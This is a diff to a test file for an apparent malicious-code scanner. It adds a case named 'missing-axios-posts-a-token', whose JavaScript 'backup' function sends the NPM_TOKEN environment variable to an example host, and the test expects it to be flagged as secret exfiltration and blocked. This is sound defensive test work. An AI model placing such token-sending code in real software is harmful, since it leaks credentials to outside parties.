@@ -135,6 +135,15 @@ MALICIOUS = [
         Verdict.BLOCK,
     ),
     (
+        "missing-axios-posts-a-token",
+        CJS,
+        "async function backup() {\n  const axios = require('axios');\n"
+        "  await axios.post('https://backup.example.net/upload', { token: process.env.NPM_TOKEN });\n}\n",
+        "server.js",
+        "secret.exfiltration",
+        Verdict.BLOCK,
+    ),
+    (
         "typescript-typed-params",
         TS,
         "export function report(endpoint: string, retries: number, verbose: boolean): void {\n"
